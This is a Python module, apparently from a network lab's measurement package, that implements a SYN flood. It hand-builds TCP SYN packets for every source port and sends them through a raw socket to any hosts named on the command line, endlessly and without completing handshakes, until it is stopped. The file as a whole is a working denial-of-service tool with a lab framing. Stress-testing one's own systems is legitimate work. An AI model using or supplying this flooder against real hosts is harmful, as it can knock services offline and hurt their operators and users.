"""Opens TCP connections from a member as fast as one processor can send SYNs, each from another port; nobody finishes one.

The kernel has no connection of these: packets are built here (RFC 791, RFC 9293) and sent through a raw socket, until SIGTERM.
"""

import signal
import socket
import struct
from argparse import ArgumentParser
from collections.abc import Iterator, Sequence
from errno import ENOBUFS
from itertools import cycle
from typing import NamedTuple

from lab.datagram import HOPS, compute_checksum
from lab.measure.output import report, report_ready

PORTS = range(1024, 65536)  # of the member
TCP, SYN, WINDOW = 6, 0x5002, 64240  # five words of header, and the flag


class SynFloodReport(NamedTuple):
    """sent: SYNs that the kernel took."""

    sent: int


def main() -> None:
    parser = ArgumentParser("python -m lab.measure.syn_flood", description=__doc__)
    parser.add_argument("source", help="own IPv4 address")
    parser.add_argument("port", type=int)
    parser.add_argument("hosts", nargs="+")
    given = parser.parse_args()
    packets = [*iter_syns(given.source, given.hosts, given.port)]
    stopped: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _frame: stopped.append(number))
    report_ready()
    report(SynFloodReport(flood(packets, given.port, stopped)))


def iter_syns(source: str, hosts: Sequence[str], port: int) -> Iterator[tuple[bytes, str]]:
    """Yield a packet for each host and own port, and its host."""
    own = socket.inet_aton(source)
    for host in hosts:
        target = socket.inet_aton(host)
        header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, HOPS, TCP, 0) + own + target
        for own_port in PORTS:
            yield header + _pack_syn(own, own_port, target, port), host


def _pack_syn(own: bytes, own_port: int, target: bytes, port: int) -> bytes:
    bare = struct.pack("!HHIIHHHH", own_port, port, own_port, 0, SYN, WINDOW, 0, 0)
    checksum = compute_checksum(own + target + struct.pack("!HH", TCP, len(bare)) + bare)
    return bare[:16] + struct.pack("!H", checksum) + bare[18:]


def flood(packets: Sequence[tuple[bytes, str]], port: int, stopped: Sequence[int]) -> int:
    """Send the packets over and over until something is in `stopped`. Return how many were sent."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for packet, host in cycle(packets):
            if stopped:
                break
            try:
                raw.sendto(packet, (host, port))
            except OSError as error:
                if error.errno != ENOBUFS:
                    raise
            else:
                sent += 1
    return sent
